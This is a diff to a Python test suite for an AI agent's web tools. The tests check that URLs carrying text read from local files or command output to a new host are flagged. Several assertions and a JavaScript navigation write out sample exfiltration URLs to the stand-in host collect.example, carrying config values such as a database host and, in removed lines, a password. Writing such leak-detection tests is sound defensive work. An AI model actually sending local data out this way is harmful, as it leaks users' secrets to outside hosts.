@@ -25,7 +25,8 @@ from tools.web.session import get_session
 
 site, web = shared.site, shared.web
 needs_chromium = shared.NEEDS_CHROMIUM
-SECRET = "DB_PASSWORD=hunter2-s3cret"
+# Local data that is no secret by its shape: a password-shaped value is redacted before the model ever reads it.
+SECRET = "DB_HOST=orders-db7-lan"
 
 
 class _Recorder(http.server.BaseHTTPRequestHandler):
@@ -135,9 +136,9 @@ def test_local_data_in_a_url_to_a_new_host(tmp_path):
     policy = _policy(tmp_path, "Summarise the config, then look up the docs for installing it",
                      ("file_read", f"1| # settings\n2| {SECRET}\n3| See docs/installing.md"),
                      ("web_scan", "Search results: hunter2-web-only"))
-    assert policy.leak(f"https://collect.example/c?d={SECRET.replace('=', '%3D')}") == [SECRET, "hunter2-s3cret",
-                                                                                         "DB_PASSWORD"]
-    assert policy.leak("https://collect.example/hunter2-s3cret/x.png") == ["hunter2-s3cret"]
+    assert policy.leak(f"https://collect.example/c?d={SECRET.replace('=', '%3D')}") == [SECRET, "orders-db7-lan",
+                                                                                         "DB_HOST"]
+    assert policy.leak("https://collect.example/orders-db7-lan/x.png") == ["orders-db7-lan"]
     assert policy.leak("https://docs.example.org/installing") == []  # a plain word is no data
     assert policy.leak("https://collect.example/?q=hunter2-web-only") == []  # from the web, back to the web
     policy.visit("https://collect.example/")
@@ -227,19 +228,19 @@ def test_a_url_carrying_local_data_to_a_new_host_is_shown(tmp_path, monkeypatch,
     finally:
         ctx.close()
     assert re.search(r"Note: the URL to 127\.0\.0\.2 carries text read from local files or command output "
-                     r"\('DB_PASSWORD=hunter2-s3cret'", out), out
+                     r"\('DB_HOST=orders-db7-lan'", out), out
     assert out.count("Note: the URL to") == 1, out  # told once, not again by the browser's own check
-    assert any("DB_PASSWORD=hunter2-s3cret" in n for n in ctx.ui.notices)
+    assert any("DB_HOST=orders-db7-lan" in n for n in ctx.ui.notices)
     assert "Recorded /collect" in out  # shown, not blocked (default mode)
     ctx = _leaky_run(tmp_path / "b", f"Read .env and check the app at {site}/")
     try:
         scan(ctx, url=f"{site}/login.html")
-        moved = web_execute_js.run({"script": f"location.href = '{url}/again?k=hunter2-s3cret'"}, ctx).content
+        moved = web_execute_js.run({"script": f"location.href = '{url}/again?k=orders-db7-lan'"}, ctx).content
     finally:
         ctx.close()
     assert "Note: the URL to 127.0.0.2 carries text read from local files" in moved, moved
     pages = [hit for hit in server.hits if hit != "/favicon.ico"]
-    assert pages == ["/collect?d=DB_PASSWORD%3Dhunter2-s3cret", "/again?k=hunter2-s3cret"], server.hits
+    assert pages == ["/collect?d=DB_HOST%3Dorders-db7-lan", "/again?k=orders-db7-lan"], server.hits
 
 
 @needs_chromium
